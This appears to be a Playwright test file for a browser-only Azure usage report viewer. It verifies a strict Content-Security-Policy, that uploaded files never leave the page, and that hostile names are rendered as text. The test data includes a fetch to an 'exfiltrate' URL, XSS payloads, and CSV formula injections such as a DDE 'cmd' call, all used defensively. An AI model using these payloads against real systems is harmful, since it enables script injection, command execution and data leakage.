// Issue 7 in the browser: the Content-Security-Policy holds and nothing is requested from
// another origin while the sample loads and is used; names that look like HTML or formulas stay
// text (no script runs) and are escaped in exported CSV.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { serveDist, launch, root, dist, outDir, sampleFiles } from './harness.mjs';

let srv, browser;
before(async () => { srv = await serveDist(); browser = await launch(); });
after(async () => { await browser?.close(); srv?.server.close(); });

/** A page that records every request (page and worker) and every CSP violation. */
async function recordedPage() {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(String(e)));
  return { context, page, requests, errors };
}

const waitForFiles = (page, n) => page.waitForFunction((k) => document.querySelectorAll('tr[data-file]').length === k, n, { timeout: 30000 });

test('the built page carries the CSP and no inline script', () => {
  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
  const csp = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
  assert.ok(csp, 'CSP meta tag');
  const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
  assert.deepEqual(directives['default-src'], ["'none'"]);
  assert.deepEqual(directives['script-src'], ["'self'", "'wasm-unsafe-eval'"]);
  assert.deepEqual(directives['connect-src'], ["'self'"]);
  for (const [k, v] of Object.entries(directives)) {
    assert.ok(!v.some((s) => /^https?:|^\*|^'unsafe-eval'$/.test(s)), `${k} allows ${v.join(' ')}`);
    // Inline style attributes only: never inline script.
    if (k !== 'style-src') assert.ok(!v.includes("'unsafe-inline'"), `${k} allows inline`);
  }
  assert.deepEqual(directives['style-src'], ["'self'", "'unsafe-inline'"]);
  for (const k of ['img-src', 'font-src', 'worker-src']) assert.ok(directives[k].every((s) => ["'self'", 'data:', 'blob:'].includes(s)), `${k}: ${directives[k]}`);
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
  assert.ok(scripts.length >= 1);
  for (const [, attrs, body] of scripts) {
    assert.match(attrs, /\bsrc="\.\/[^"/]+\.js"/, 'every script is a file of this site');
    assert.equal(body.trim(), '');
  }
  assert.doesNotMatch(html, /https?:\/\//, 'no absolute URL in index.html');
});

test('loading and using the sample requests nothing from another origin and breaks no CSP rule', async () => {
  const { context, page, requests, errors } = await recordedPage();
  await page.goto(srv.base);
  await waitForFiles(page, sampleFiles().length);
  // Use it: every page, a filter, a range, a chart tooltip, an export.
  for (const index of [0, 1, 2]) {
    await page.click(`[data-page="${index}"]`);
    await page.waitForTimeout(300);
  }
  await page.click('[data-page="0"]');
  await page.click('[data-last="6"]');
  await page.waitForTimeout(300);
  const canvas = await page.$('canvas[data-chart]');
  const box = await canvas.boundingBox();
  await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
  await page.click('[data-page="1"]');
  await Promise.all([page.waitForEvent('download'), page.click('[data-export="no-usage"]')]);
  // Upload a file too: it is read in the browser, never sent.
  const fixture = path.join(root, 'tests/fixtures/customers_small.tsv');
  await page.setInputFiles('#file-input', fixture);
  await waitForFiles(page, 1);
  const origin = new URL(srv.base).origin;
  const elsewhere = requests.filter((u) => !u.startsWith(origin + '/') && !u.startsWith('data:') && !u.startsWith('blob:'));
  assert.deepEqual(elsewhere, [], 'requests to another origin');
  assert.ok(requests.length >= 8, `recorded ${requests.length} requests`);
  assert.ok(!requests.some((u) => u.includes('customers_small')), 'the uploaded file is never requested or sent');
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  assert.deepEqual(errors, []);
  // The policy is enforced: a fetch to another host is blocked before it leaves the page.
  const blocked = await page.evaluate(() => fetch('http://127.0.0.2:9/exfiltrate').then(() => 'sent', (e) => String(e)));
  assert.match(blocked, /TypeError/);
  assert.ok(!requests.some((u) => u.includes('exfiltrate')), 'the blocked request never went out');
  await page.waitForFunction(() => window.__violations.length > 0);
  assert.match((await page.evaluate(() => window.__violations))[0], /^connect-src http:\/\/127\.0\.0\.2:9/);
  await context.close();
});

test('names holding <script>, <img onerror> and formulas stay text: no script runs, CSV cells are escaped', async () => {
  const names = [
    "<script>window.__probe='script'</script>",
    `<img src=x onerror="window.__probe='img'">`,
    '=HYPERLINK("http://example.invalid/?leak","Click")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)',
  ];
  // An Azure usage report where these customers' subscriptions have no usage, so the page
  // lists them by name.
  const header = 'SubscriptionId\tSubscriptionStartDate\tSubscriptionEndDate\tSubscriptionState\tMonth\tUsageQuantity\tCustomerTenantId\tCustomerName\tCustomerMarket\tTotalACR\n';
  const rows = names.map((n, i) => {
    const sub = `0000000${i + 1}-1111-1111-1111-111111111111`;
    return ['2025-01-01', '2025-02-01'].map((m) => `${sub}\t2024-12-05\t9999-12-31\tActive\t${m}\t0\tt${i}\t${n}\tSweden\t0\n`).join('');
  }).join('');
  const file = path.join(outDir, 'hostile-names-azure.tsv');
  fs.writeFileSync(file, header + rows);
  const { context, page, errors } = await recordedPage();
  await page.goto(srv.base);
  await waitForFiles(page, sampleFiles().length);
  await page.setInputFiles('#file-input', file);
  await waitForFiles(page, 1);
  await page.click('[data-page="1"]');
  await page.waitForSelector('#no-usage-table tbody tr[data-subscription]');
  await page.waitForTimeout(500);
  const listed = await page.$$eval('#no-usage-table tbody tr td:nth-child(2)', (tds) => tds.map((t) => t.textContent));
  for (const n of names) assert.ok(listed.includes(n), `${n} shown as text, listed: ${JSON.stringify(listed)}`);
  assert.equal(await page.evaluate(() => window.__probe), undefined, 'no script from a file ran');
  assert.equal(await page.$$eval('img[src="x"], #no-usage-table script', (e) => e.length), 0, 'no element made from a name');
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-export="no-usage"]')]);
  const csv = fs.readFileSync(await download.path(), 'utf8');
  for (const n of names.filter((x) => /^[=+\-@]/.test(x))) {
    const quoted = `"'${n.replaceAll('"', '""')}"`;
    const plain = `'${n}`;
    assert.ok(csv.includes(quoted) || csv.includes(plain), `${n} escaped in ${csv}`);
  }
  await page.screenshot({ path: path.join(outDir, 'hostile-names.png'), fullPage: false });
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  assert.deepEqual(errors, []);
  await context.close();
});
